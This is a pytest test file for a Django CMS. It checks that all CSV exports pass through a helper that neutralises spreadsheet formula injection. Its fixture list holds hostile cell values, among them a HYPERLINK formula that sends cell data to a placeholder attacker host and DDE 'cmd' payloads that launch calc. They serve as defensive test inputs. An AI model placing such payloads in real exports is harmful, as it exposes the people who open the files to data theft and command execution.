"""CSV formula injection (issue 15, item 11): every CSV the platform writes goes through
``cms.hardening.spreadsheets.csv_writer``, and no text cell of it can start a formula."""

import ast
import csv
import datetime
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from cms.hardening.spreadsheets import FORMULA_STARTS, csv_writer, neutralise
from cms.taxonomy.models import FocusArea
from tests.factories import ClubFactory, booking, room

HOSTILE = [
    '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
WRITER_NAMES = {"writer", "DictWriter"}
HELPER = Path("cms/hardening/spreadsheets.py")


def read(text: str, delimiter=",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_no_csv_writer_but_the_helper():
    """A CSV written anywhere else in the code base (cms, sites, plugins) fails here."""
    offenders = []
    for package in ("cms", "sites", "plugins"):
        for path in (Path(settings.BASE_DIR) / package).rglob("*.py"):
            relative = path.relative_to(settings.BASE_DIR)
            if relative == HELPER:
                continue
            for node in ast.walk(ast.parse(path.read_text(), str(path))):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in WRITER_NAMES
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ) or (
                    isinstance(node, ast.ImportFrom)
                    and node.module == "csv"
                    and {alias.name for alias in node.names} & WRITER_NAMES
                ):
                    offenders.append(f"{relative}:{node.lineno}")
    assert not offenders, offenders


@given(st.text())
def test_no_text_cell_starts_a_formula(text):
    buffer = io.StringIO()
    csv_writer(buffer).writerow([text, 7, -3])
    cell, number, negative = read(buffer.getvalue())[0]
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
    assert (number, negative) == ("7", "-3"), "numbers the platform computes stay numbers"
    if not text.lstrip(" ").startswith(FORMULA_STARTS):
        assert cell == text
    else:
        assert cell == "'" + text == neutralise(text)


@pytest.mark.django_db
def test_the_booking_export_neutralises_every_formula(client, agency_user):
    cafe = room("Café Formel")
    club = ClubFactory()
    month_start = (timezone.localdate().replace(day=1) + datetime.timedelta(days=40)).replace(day=1)
    for day, purpose in enumerate(HOSTILE):
        at = timezone.make_aware(datetime.datetime.combine(month_start, datetime.time(8 + day)))
        booking(cafe, club, start=at, hours=1, status="confirmed", purpose=purpose)
    client.force_login(agency_user)
    response = client.get(reverse("rooms_admin:export"), {"monat": month_start.strftime("%Y-%m")})
    assert response.status_code == 200
    rows = read(response.content.decode("utf-8-sig"), delimiter=";")[1:]
    assert [row[5] for row in rows] == ["'" + purpose for purpose in HOSTILE]


@pytest.mark.django_db
def test_the_statistics_csv_neutralises_every_formula(client):
    for number, name in enumerate(HOSTILE):
        FocusArea.objects.create(name=name, slug=f"formel-{number}")
        ClubFactory(focus=(name,))
    response = client.get("/api/v1/stats.csv")
    assert response.status_code == 200
    cells = [cell for row in read(response.content.decode("utf-8")) for cell in row]
    assert all(not cell.lstrip(" ").startswith(FORMULA_STARTS) for cell in cells)
    for name in HOSTILE:
        assert "'" + name in cells
